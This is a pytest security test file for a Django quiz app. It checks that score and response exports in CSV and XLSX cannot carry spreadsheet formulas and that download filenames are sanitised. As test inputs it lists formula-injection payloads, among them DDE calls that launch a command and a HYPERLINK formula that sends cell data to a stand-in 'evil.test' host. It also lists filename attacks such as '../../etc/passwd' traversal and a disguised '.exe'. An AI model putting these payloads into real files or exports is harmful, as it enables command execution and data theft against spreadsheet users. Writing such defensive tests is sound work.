"""T14: downloads hold no cell that a spreadsheet would run, whatever people wrote."""

import csv
import io

import pytest
from django.db import connection
from openpyxl import load_workbook

from quizzes.domain.interchange.tables import BEGINS_A_FORMULA, as_csv
from quizzes.domain.interchange.workbook import write_workbook
from quizzes.models import Learner, QuestionVersion, Quiz
from tests.factories import CollectionFactory, LearnerFactory, quiz_with
from tests.factories.begun import finished_at
from tests.security.payloads import BREAKING_OUT, RAW_HTML

pytestmark = pytest.mark.django_db

BEGINNINGS = [*"=+-@\t\r\n\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULAS = [
    *(f"{each}1+1" for each in BEGINNINGS),
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '=HYPERLINK("//evil.test?x="&A1,"x")',
    '=DDE("cmd";"/c calc";"x")',
    'x";=1+1;"',
    "x,=1+1",
    "x;=1+1",
    "x\t=1+1",
    "x\r\n=1+1",
    'x;"=1+1"',
    "x;'=1+1",
    "-2+3+cmd|'/c calc'!A0",
    "x" * 40_000,
    "\x0b\x1b[31m=1+1",
    "\ufffe=1",
]
NUMBERS = [-3, 0, 7]


def is_formula(cell):
    return cell.startswith(BEGINS_A_FORMULA) and not cell.lstrip("-").isdigit()


def sheet_of(content):
    return load_workbook(io.BytesIO(content)).worksheets[0]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("words", FORMULAS)
def test_no_reader_finds_a_formula_in_csv(words, delimiter):
    text = as_csv(["a", "b", "c"], [{"a": "x", "b": words, "c": -3}])

    lines = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)

    assert [cell for line in lines for cell in line if is_formula(cell)] == []


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(words):
    file = io.BytesIO()
    rows = [{"a": words, "b": each} for each in NUMBERS]

    write_workbook(file, title="Scores", columns=["a", "b"], rows=rows)

    cells = [cell for row in sheet_of(file.getvalue()).iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert [cell.value for cell in cells if cell.data_type == "n"] == NUMBERS
    kept = cells[2].value
    assert kept in words.replace("\r\n", "\n").replace("\r", "\n") or kept == "1+1"
    assert cells[2].quotePrefix == kept.startswith(BEGINS_A_FORMULA)


def storable():
    """A text with a NUL is none that PostgreSQL keeps."""
    every = [*FORMULAS, *BREAKING_OUT, *RAW_HTML[:10]]
    return [each for each in every if "\0" not in each]


@pytest.mark.parametrize("what", ["scores", "responses"])
def test_names_answers_and_questions_are_texts(client, author, what):
    quiz = quiz_with(1, collection=CollectionFactory(slug="own", owner=author))
    for words in storable():
        finished_at(quiz, keys="a", learner=LearnerFactory(display_name=words[:80]))
    hostile = QuestionVersion.objects.get()
    for option in hostile.payload["options"]:
        option["text"] = f"={option['text']}"
    payload = {**hostile.payload, "stem": "=1+1"}
    QuestionVersion.objects.filter(pk=hostile.pk).update(payload=payload, stem="=1+1")
    path = f"/teach/quizzes/{quiz.pk}/scores/export/"

    text = client.post(path, {"what": what, "format": "csv"}).getvalue().decode()
    book = client.post(path, {"what": what, "format": "xlsx"}).getvalue()

    read = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert [cell for line in read for cell in line if is_formula(cell)] == []
    cells = [cell for row in sheet_of(book).iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert len(cells) == sheet_of(book).max_column * (len(storable()) + 1)


@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "title",
    [
        *BREAKING_OUT,
        "../../etc/passwd",
        "\u202egpj.exe",
        'a"; filename="x.exe',
        "x" * 300,
        "أسئلة",
        "Übung\\1",
    ],
)
def test_the_name_of_the_file_is_plain(client, author, title, format):
    if "\0" in title and connection.vendor == "postgresql":
        title = title.replace("\0", "")
    quiz = quiz_with(0, collection=CollectionFactory(slug="own", owner=author))
    Quiz.objects.filter(pk=quiz.pk).update(title=title)
    path = f"/teach/quizzes/{quiz.pk}/scores/export/"

    response = client.post(path, {"what": "scores", "format": format})

    name = response["Content-Disposition"].removeprefix('attachment; filename="')
    stem, suffix = name.removesuffix('"').split(".")
    assert suffix == format
    assert len(stem) < 90
    assert stem.replace("-", "").replace("_", "").isalnum()
    assert stem.isascii()
    response.close()


def test_a_name_is_shown_in_full_where_it_is_no_formula(client, author):
    quiz = quiz_with(1, collection=CollectionFactory(slug="own", owner=author))
    finished_at(quiz, learner=LearnerFactory(display_name="Zoë; Ö'Brien, “Jr”"))
    path = f"/teach/quizzes/{quiz.pk}/scores/export/"

    text = client.post(path, {"what": "scores", "format": "csv"}).getvalue()

    assert text.startswith(b"\xef\xbb\xbflearner,email")
    [row] = csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""))
    assert row["learner"] == Learner.objects.latest("pk").display_name
